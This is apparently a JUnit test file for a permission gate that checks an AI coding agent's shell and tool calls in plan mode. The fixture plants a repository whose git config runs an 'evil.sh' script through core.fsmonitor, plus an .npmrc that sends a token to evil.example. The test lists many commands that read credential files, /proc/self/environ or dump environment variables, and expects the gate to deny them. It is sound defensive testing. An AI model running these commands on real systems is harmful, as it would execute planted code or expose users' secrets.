package sayso.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What the gate of plan mode looks at where a line runs: whose repository git would take there, and whether a path
/// leads to Sayso's own credentials.
class PlanGatePlacesTest {
    @TempDir private Path folder;
    private Path shop;
    private Path ran;
    private CliHarness cli;

    @BeforeEach
    void lay() throws Exception {
        folder = folder.toRealPath();
        cli = new CliHarness(folder);
        cli.with("SAYSO_GATE_PATIENCE_MS", "0").with("HOME", folder.toString());
        cli.run("plan", "on", "--session", "s-1", "--agent", "claude-code");
        Files.writeString(folder.resolve("home/agent.token"), "secret");
        shop = Files.createDirectories(folder.resolve("shop"));
        ran = folder.resolve("ran");
        git(shop, "init", "-q");
        Files.createDirectories(shop.resolve("core"));
        Files.writeString(shop.resolve("core/a.txt"), "a");
        git(shop, "add", ".");
        git(shop, "commit", "-qm", "a");
        git(shop, "worktree", "add", "-q", folder.resolve("tree").toString());
        Path evil = Files.writeString(folder.resolve("evil.sh"), "#!/bin/sh\n: > '" + ran + "'\n");
        evil.toFile().setExecutable(true);
        // What a repository can hold as plain files.
        Path bare = Files.createDirectories(shop.resolve("sub"));
        Files.createDirectories(bare.resolve("objects"));
        Files.createDirectories(bare.resolve("refs"));
        Files.writeString(bare.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.writeString(
                bare.resolve("config"),
                "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = "
                        + bare
                        + "\n\tfsmonitor = "
                        + evil
                        + "\n");
        Files.createDirectories(shop.resolve("pointed"));
        Files.writeString(shop.resolve("pointed/.git"), "gitdir: ../sub\n");
        git(folder, "init", "-q", "other");
    }

    @Test
    void aRepositoryAmongTheFilesRunsItsOwnProgram() throws Exception {
        git(shop.resolve("sub"), "status");

        assertThat(ran).exists();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cd sub && git status",
                "cd ./core/../sub; git log",
                "git -C sub status",
                "git --bare log",
                "git --git-dir=. status",
                "git -C core -C ../sub status",
                "(cd sub && git status)",
                "pushd sub && git status",
                "env -C sub git status",
                "find . -name HEAD -execdir git status ;",
                "cd pointed && git status",
                "git -C pointed status",
                "cd sub/refs && git status",
                "cd link && git status",
                "cd link/refs && git status",
                "cd ../other && git status",
                "git -C @/other log",
                "for d in core sub; do git -C $d status; done",
                "for d in */; do git -C $d status; done",
                "while :; do git status; cd sub; done",
                "cd sub && gh pr list"
            })
    void asksBeforeGitTakesTheRepositoryOfAnother(String line) throws IOException {
        Files.createSymbolicLink(shop.resolve("link"), shop.resolve("sub"));

        assertThat(bash(shop, line)).contains("\"permissionDecision\":\"deny\"", "asks for it");
        assertThat(ran).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "git status",
                "cd core && git status",
                "cd @/shop && git log -1",
                "cd @/shop/core; git diff",
                "git -C core log",
                "git -C @/tree log -1",
                "cd ../tree && git status --short",
                "cd nowhere && git status",
                "cd .git && git log -1",
                "for d in core; do (cd $d && git log -1); done",
                "ls sub; cat sub/config"
            })
    void theProjectsOwnRepositoryStaysToBeLookedAt(String line) {
        assertThat(bash(shop, line)).isEqualTo("{}");
    }

    @Test
    void asksWhereTheAgentHasGoneThereBefore() {
        assertThat(bash(shop, "cd sub")).isEqualTo("{}");
        assertThat(bash(shop.resolve("sub"), "git status")).contains("asks for it");
        assertThat(bash(folder.resolve("tree"), "git status")).isEqualTo("{}");
        assertThat(bash(folder.resolve("tree"), "git -C ../shop status")).isEqualTo("{}");
    }

    @Test
    void asksWhereNothingIsKnownOfTheFolder() {
        assertThat(bash(folder.resolve("gone"), "cd sub && git status")).contains("asks for it");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cat @/home/agent.token",
                "cat ../home/agent.token",
                "cat ~/home/agent.token",
                "cat link/agent.token",
                "cat token",
                "cat to*n",
                "cat lin*/agent.token",
                "cat ../h?me/agent.token",
                "cat ../*/agent.token",
                "cat @/home/*",
                "cat < ../home/agent.token",
                "cd ../home && cat agent.token",
                "cd link && cat agent.token",
                "grep -r secret ..",
                "grep -r secret ~",
                "rg --hidden x ..",
                "find .. -name x -exec cat {} +",
                "base64 ../home/sayso.db",
                "cat ~/.sayso/person.token",
                "cat /proc/self/environ",
                "cat /dev/fd/../environ",
                "cat process/../environ",
                "cat proc*/../environ",
                "cat process/../env*",
                "cat */../environ",
                "cat link/../home/agent.token",
                "cat link/../hom*/agent.token",
                "cd ~ && cat h*me/agent.token",
                "cd; cat h*/agent.token",
                "cat ~ada/h*/agent.token",
                "xargs cat <<< ~/home/agent.token",
                "cat $(find ~ -name agent.token)",
                "find .. -name agent.token | xargs cat",
                "git diff --no-index .. core",
                "env",
                "set",
                "export -p",
                "declare -x",
                "jq -n env",
                "ps auxe"
            })
    void asksBeforeCredentialsOrTheEnvironmentAreSeen(String line) throws IOException {
        Files.createSymbolicLink(shop.resolve("link"), folder.resolve("home"));
        Files.createSymbolicLink(shop.resolve("token"), folder.resolve("home/agent.token"));
        Path process = Files.createSymbolicLink(shop.resolve("process"), Path.of("/dev/fd"));

        assertThat(bash(shop, line)).contains("\"permissionDecision\":\"deny\"", "asks for it");
        Files.delete(process);
    }

    @Test
    void asksWhereTheFolderSaysWhichComputerIsSentSecrets() throws IOException {
        assertThat(bash(shop, "npm view x")).isEqualTo("{}");
        Files.writeString(folder.resolve(".npmrc"), "fund=false\n");
        assertThat(bash(shop.resolve("core"), "npm view x")).isEqualTo("{}");

        Files.writeString(shop.resolve(".npmrc"), "//evil.example/:_authToken=${SECRET}\n");

        assertThat(bash(shop, "npm view x")).contains("asks for it");
        assertThat(bash(shop.resolve("core"), "npm ls")).contains("asks for it");
        assertThat(bash(folder, "cd shop && npm outdated")).contains("asks for it");
    }

    @Test
    void asksBeforeAToolReadsCredentials() throws IOException {
        Files.createSymbolicLink(shop.resolve("token"), folder.resolve("home/agent.token"));
        Path process = Files.createSymbolicLink(shop.resolve("p"), Path.of("/dev/fd"));

        assertThat(tool(shop, "Read", "\"file_path\":\"@/home/agent.token\"")).contains("asks");
        assertThat(tool(shop, "Read", "\"file_path\":\"@/shop/token\"")).contains("asks for it");
        assertThat(tool(shop, "Read", "\"file_path\":\"/proc/self/environ\"")).contains("asks");
        assertThat(tool(shop, "Read", "\"file_path\":\"/dev/fd/../environ\"")).contains("asks");
        assertThat(tool(shop, "Read", "\"file_path\":\"@/shop/p/../environ\"")).contains("asks");
        assertThat(tool(shop, "Grep", "\"pattern\":\"x\",\"path\":\"@/home\"")).contains("asks");
        assertThat(tool(shop, "Grep", "\"pattern\":\"x\",\"path\":\"@\"")).contains("asks for it");
        assertThat(tool(shop, "Read", "\"file_path\":\"@/shop/core/a.txt\"")).isEqualTo("{}");
        assertThat(tool(shop, "Grep", "\"pattern\":\"x\"")).isEqualTo("{}");
        assertThat(tool(folder, "Grep", "\"pattern\":\"x\",\"include\":\"agent.token\""))
                .as("a filter says which files count, not where they are")
                .contains("asks");
        assertThat(tool(shop, "Grep", "\"pattern\":\"x\",\"include\":\"*.txt\"")).isEqualTo("{}");
        Files.delete(process);
    }

    @Test
    void theCheckOfALineSaysTheSame() {
        String[] check = {"plan", "check", "--project", shop.toString(), "--"};

        assertThat(check(check, "cd sub && git status")).isEqualTo(1);
        assertThat(check(check, "cd core && git status")).isZero();
        assertThat(check(check, "cat ../home/agent.token")).isEqualTo(1);
    }

    private int check(String[] words, String line) {
        List<String> all = new ArrayList<>(List.of(words));
        all.add(line);
        return cli.run(all.toArray(String[]::new)).exitCode();
    }

    private String bash(Path at, String line) {
        return tool(at, "Bash", "\"command\":\"" + line.replace("\\", "\\\\") + "\"");
    }

    private String tool(Path at, String name, String input) {
        String payload =
                "{\"hook_event_name\":\"PreToolUse\",\"session_id\":\"s-1\",\"cwd\":\"%s\",\"tool_name\":\"%s\",\"tool_use_id\":\"u-1\",\"tool_input\":{%s}}"
                        .formatted(at, name, input.replace("@", folder.toString()));
        return cli.hook(payload, "claude", "PreToolUse").out();
    }

    private static void git(Path at, String... words) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of("git", "-c", "user.name=a"));
        command.addAll(List.of("-c", "user.email=a@example.org"));
        command.addAll(List.of(words));
        Process process =
                new ProcessBuilder(command)
                        .directory(at.toFile())
                        .redirectErrorStream(true)
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                        .start();
        assertThat(process.waitFor(2, TimeUnit.MINUTES)).isTrue();
    }
}
